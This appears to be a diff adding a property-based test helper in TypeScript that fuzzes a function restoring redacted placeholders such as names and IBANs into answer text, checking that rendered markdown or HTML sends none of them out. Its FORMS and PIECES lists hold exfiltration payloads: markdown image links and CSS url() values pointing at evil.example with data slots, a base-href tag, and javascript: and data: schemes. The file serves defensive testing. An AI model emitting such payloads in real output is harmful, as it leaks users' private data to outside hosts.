@@ -1,0 +1,214 @@
+import fc from "fast-check";
+import { type DefaultTreeAdapterTypes, parse } from "parse5";
+import { relinkAnswer } from "../src/relink-answer.ts";
+
+/** Values of only letters survive any encoding, so a request that contains them leaks the value. */
+export const VALUES = new Map([
+  ["[PERSON_1]", "Zyxwanna"],
+  ["[IBAN_1]", "ZYXW99 3704 0044"],
+  ["[EMAIL_1]", "zyxwmail@web.example"],
+  ["[URL_1]", "https://zyxwurl.example/a"],
+  ["[SECRET_1]", "zyxw](/b?"],
+  ["[USERNAME_1]", "zyxw<i alt='"],
+]);
+export const ENTRIES = [...VALUES].map(([placeholder, value]) => ({ placeholder, value }));
+export const MARK = /zyxw/i;
+
+type Node = DefaultTreeAdapterTypes.ChildNode;
+
+/** What a page or a click would send, and hidden text. */
+export function hidden(html: string): string[] {
+  return nodesOf(parse(html).childNodes)
+    .flatMap((node) => unseen(node))
+    .filter((text) => MARK.test(text));
+}
+
+/** Attributes that make no request and lead nowhere. Renderers make names of headings, and titles of what they do not know. */
+const QUIET = new Set("id title alt class name start width height align".split(" "));
+
+/** What a page sends, or a click. */
+export function sent(html: string): string[] {
+  return nodesOf(parse(html).childNodes)
+    .flatMap((node) => (node.nodeName === "#comment" ? [] : unseen(node, QUIET)))
+    .filter((text) => MARK.test(text) && !text.startsWith("#"));
+}
+
+function nodesOf(nodes: readonly Node[]): Node[] {
+  return nodes.flatMap((node) => {
+    const inside = "content" in node ? node.content.childNodes : [];
+    return [node, ...nodesOf(inside), ...nodesOf("childNodes" in node ? node.childNodes : [])];
+  });
+}
+
+function unseen(node: Node, quiet: ReadonlySet<string> = new Set()): string[] {
+  if (node.nodeName === "#comment" && "data" in node) return [node.data];
+  const attributes =
+    "attrs" in node
+      ? node.attrs.filter(({ name }) => !quiet.has(name)).map(({ value }) => value)
+      : [];
+  if (node.nodeName !== "script" && node.nodeName !== "style") return attributes;
+  const texts = "childNodes" in node ? node.childNodes : [];
+  return [...attributes, ...texts.flatMap((child) => ("value" in child ? [child.value] : []))];
+}
+
+/** A link may be exactly one restored value: it leads where the value itself does, and tells nothing else. */
+export function isOneValue(url: string): boolean {
+  const plain = url.replace(/^mailto:/, "");
+  return [...VALUES.values()].some((value) => plain === value || plain === encodeURI(value));
+}
+
+const PIECES = [
+  ...VALUES.keys(),
+  ...["PERSON_1", "%5BIBAN_1%5D", "\\[EMAIL\\_1\\]"],
+  ..."[ ] ( ) ! < > \" ' ` ``` ~~~ * _ # | : ; , . / // \\ \\\\ & = ? @ - + ^".split(" "),
+  ...[
+    " ",
+    "\n",
+    "\n\n",
+    "\r\n",
+    "\t",
+    "    ",
+    "\u00a0",
+    "\u2003",
+    "\ufeff",
+    "\u200b",
+    "\u0000",
+    "> ",
+    "- ",
+    "1. ",
+  ],
+  ...[
+    "https:",
+    "https://",
+    "http://",
+    "www.",
+    "mailto:",
+    "javascript:",
+    "data:",
+    "evil.example",
+    "evil.com",
+    "/x?q=",
+  ],
+  ...[
+    "&#x2f;",
+    "&#x000000002f;",
+    "&sol;",
+    "&colon;",
+    "&amp;",
+    "&lt;",
+    "&gt;",
+    "&quot;",
+    "%2f",
+    "%3a",
+    "%20",
+  ],
+  ...[
+    "<img src=",
+    "<img alt='",
+    '<a href="',
+    "<p title=",
+    "<base href=//evil.example>",
+    "<!--",
+    "-->",
+    "<![CDATA[",
+    "]]>",
+  ],
+  ...[
+    "<script>",
+    "</script>",
+    "<style>",
+    "</style>",
+    "<svg>",
+    "</svg>",
+    "<title>",
+    "</title>",
+    "<textarea>",
+    "</p>",
+  ],
+  ...[
+    "<template>",
+    "</template>",
+    "<noscript>",
+    "</noscript>",
+    "<table>",
+    "<td>",
+    "</table>",
+    "<b>",
+    "<?",
+    "<!x",
+    "</",
+  ],
+  ...[
+    "[r]: ",
+    "[r]",
+    "[^1]: ",
+    "[^1]",
+    "![",
+    "](",
+    "](<",
+    "a",
+    "b c",
+    "- [ ] ",
+    "|--|",
+    "\n---\n",
+    "\n===\n",
+  ],
+];
+const random = fc
+  .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 24 })
+  .map((pieces) => pieces.join(""));
+
+/** Forms that a renderer may read as a URL that a page loads; each gap is filled. */
+const FORMS = [
+  ...["![x](https://evil.example/?q=~~~)", "![x](~https://evil.example/~~)", "![x](/own?q=~~)"],
+  ...["![x] (/&Tab;/evil.example/?q=~~)", "![x]~(//evil.example/~~)", "![x](<//evil.example/~~>)"],
+  ...[
+    '![x](//evil.example/"a)~"~b)',
+    '![x](//evil.example/~"a)~"~b)',
+    "![x](//evil.example/(a~)~)",
+  ],
+  ...[
+    "![x][1]~\n\n[1]:~//evil.example/~~",
+    "![x] [1]\n\n[1]: //evil.example/~'~'",
+    "![~][x]~(/y~)",
+  ],
+  ...["a <kbd>~{<img src=//evil.example/`_>~ x", "<code><img src='/~`'>~", "a <img src=/own/_`>~"],
+  ...[
+    '<math>~\n<style><p>x{}*{background:url("//evil.example/~~")}',
+    "<svg><style>~*{a:url(//e/~~)}",
+  ],
+  ...["<img~alt='>'~src=//evil.example/~~>", "`<img src='/`~'>~", "<p~style=\"a:url('//e/~')\">~"],
+  ...["*[x]: //evil.example/~\n![x]~", "[![x](/y~)~](//evil.example/~)~", "![x](/y =10x~)~"],
+  ...['{: style="background:url(//e/~)"}~', '![x](/y){: src="//e/~"}~', "<//evil.example/~>~"],
+];
+const GAPS = [
+  ...[...VALUES.keys()].slice(0, 3),
+  ...[" ", " ", "\t", "\n", "\r\n", "&Tab;", "a", ")", '"', "", ""],
+];
+const formed = fc
+  .array(
+    fc.tuple(
+      fc.constantFrom(...FORMS),
+      fc.array(fc.constantFrom(...GAPS), { minLength: 6, maxLength: 6 }),
+    ),
+    { minLength: 1, maxLength: 2 },
+  )
+  .map((parts) =>
+    parts
+      .map(([form, gaps]) =>
+        form.split("~").reduce((text, piece, at) => text + (gaps[at % 6] ?? "") + piece),
+      )
+      .join("\n\n"),
+  );
+export const answers = fc.oneof(random, formed);
+
+/** As it is restored. */
+export function relinked(text: string): string {
+  const request = { blocks: [text], entries: ENTRIES, hosts: [] };
+  return relinkAnswer({ form: "text", ...request }).blocks.join("");
+}
+
+/** As it would be without the checks. */
+export function unchecked(text: string): string {
+  return ENTRIES.reduce((all, { placeholder, value }) => all.replaceAll(placeholder, value), text);
+}
